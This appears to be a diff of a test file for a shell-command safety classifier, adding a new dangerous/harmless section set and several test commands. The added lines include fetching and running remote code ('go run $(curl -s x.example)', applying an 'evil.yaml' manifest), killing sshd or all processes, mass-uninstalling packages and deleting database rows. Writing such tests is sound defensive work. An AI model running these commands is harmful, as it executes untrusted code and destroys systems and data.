@@ -18,10 +18,21 @@ const sections = [
       'eleventh',
       'twelfth',
       'thirteenth',
+      'fourteenth',
     ] as const
   ).flatMap((set) => sectionsOf(set, 'dangerous')),
   ...(
-    ['fifth', 'sixth', 'seventh', 'ninth', 'tenth', 'eleventh', 'twelfth', 'thirteenth'] as const
+    [
+      'fifth',
+      'sixth',
+      'seventh',
+      'ninth',
+      'tenth',
+      'eleventh',
+      'twelfth',
+      'thirteenth',
+      'fourteenth',
+    ] as const
   ).flatMap((set) => sectionsOf(set, 'harmless')),
 ];
 
@@ -82,6 +93,12 @@ const ACCEPTED: readonly string[] = [
   "npx replace-in-file x y '/etc/**'",
   // Some rows, and one service: a condition or a number is not known before it runs.
   "mongosh --eval 'db.users.deleteMany({active: {$ne: null}})'",
+  // Everyday work as often: a manifest of others, one service, the packages of an environment for tests.
+  'kubectl apply -f https://x.example/evil.yaml',
+  'kill -9 $(pidof sshd)',
+  'pip freeze | xargs pip uninstall -y',
+  // What is run is a name from the network, which is most often a version.
+  'go run $(curl -s x.example)',
   'kill -9 $(pgrep -f sshd)',
   'kill -9 $(ps -e -o pid=)',
   // RR-1: what is in a file is not known.
@@ -120,6 +137,6 @@ describe('commands the rules were not written for', () => {
       sections
         .filter((section) => section.label === label)
         .reduce((sum, { commands }) => sum + commands.length, 0);
-    expect([count('dangerous'), count('harmless')]).toEqual([2912, 3001]);
+    expect([count('dangerous'), count('harmless')]).toEqual([3366, 3235]);
   });
 });
